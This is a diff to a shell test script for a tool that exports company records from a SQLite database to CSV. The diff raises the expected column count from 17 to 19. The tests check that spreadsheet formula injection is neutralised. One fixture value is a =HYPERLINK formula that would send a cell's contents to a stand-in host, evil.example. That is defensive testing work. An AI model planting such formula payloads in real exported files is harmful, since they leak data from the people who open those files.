@@ -52,7 +52,7 @@ has out "更新 3"
 sql d.db "update enterprise set name='''=不是公式的引号' where uscc='91330106MA2000414K'"
 
 run 0 "$FGDJ" export enterprises --db d.db -o e.csv
-eq "$(ncols e.csv)" 17 "every exported row has 17 columns"
+eq "$(ncols e.csv)" 19 "every exported row has 19 columns (the ledger's, 移出台账 included)"
 eq "$(cell_of e.csv 91330106MA20002034 企业名称)" "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")" "=HYPERLINK neutralised"
 eq "$(cell_of e.csv 91330106MA20002034 出资人)" "'+1" "+1 neutralised"
 eq "$(cell_of e.csv 91330106MA20002034 所属区域)" "'=1+2,99" "zone with a comma: neutralised, one cell"
@@ -80,7 +80,7 @@ eq "$(sql d.db "select z.name from zone z join enterprise e on e.zone_id=z.id wh
 cp d.db nl.db
 sql nl.db "update enterprise set name='甲\"乙'||char(10)||'丙, 丁 ' where uscc='91330106MA20002034'"
 run 0 "$FGDJ" export enterprises --db nl.db -o nl.csv
-eq "$(ncols nl.csv)" 17 "quote and newline: still 17 columns"
+eq "$(ncols nl.csv)" 19 "quote and newline: still 19 columns"
 eq "$(cell_of nl.csv 91330106MA20002034 企业名称)" "$(printf '甲"乙\n丙, 丁 ')" "quote, newline, trailing space intact"
 
 # XLSX writes text as text: no formula anywhere, the value is there as a string.
